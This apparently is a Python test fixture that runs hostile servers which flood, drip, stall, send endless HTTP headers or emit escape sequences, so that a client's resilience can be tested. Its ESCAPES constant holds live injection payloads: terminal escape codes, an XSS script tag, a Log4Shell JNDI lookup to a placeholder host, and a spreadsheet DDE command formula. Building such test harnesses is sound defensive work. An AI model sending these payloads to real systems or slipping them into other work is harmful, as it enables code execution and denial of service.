"""Hosts that mean harm: ``python -m tests.city.hostile ADDRESS`` floods, drips, stalls and sends escape sequences."""

import asyncio
import sys

ESCAPES = (
    b"\x1b]0;owned\x07\x1b[2J\x1b[31mroot\x1b[0m \xe2\x80\xae<script>alert(1)</script>${jndi:ldap://x/a}\r\n"
    b"=cmd|' /C calc'!A0\r\n\x00\xff\r\n"
)


async def flood(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    for _ in range(4096):  # 256 MiB, were anybody to read it
        writer.write(b"\xff" * 65536)
        await writer.drain()


async def drip(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    for _ in range(600):
        writer.write(b"2")
        await writer.drain()
        await asyncio.sleep(0.5)


async def stall(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await asyncio.sleep(300)


async def escape(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(ESCAPES * 20)
    await writer.drain()
    await asyncio.sleep(1)


async def endless_headers(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await reader.read(1)
    writer.write(b"HTTP/1.1 200 OK\r\n")
    for number in range(1_000_000):
        writer.write(b"X-%d: %s\r\n" % (number, b"a" * 200))
        await writer.drain()


BEHAVIOURS = {21: flood, 22: drip, 25: stall, 80: endless_headers, 443: stall, 8080: escape, 6379: escape}


async def _served(behaviour, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:  # type: ignore[no-untyped-def]
    try:
        await behaviour(reader, writer)
    except OSError:
        pass
    finally:
        writer.transport.abort()


async def serve(address: str) -> None:
    for port, behaviour in BEHAVIOURS.items():
        await asyncio.start_server(lambda r, w, b=behaviour: _served(b, r, w), address, port)
    await asyncio.Event().wait()


if __name__ == "__main__":
    asyncio.run(serve(sys.argv[1]))
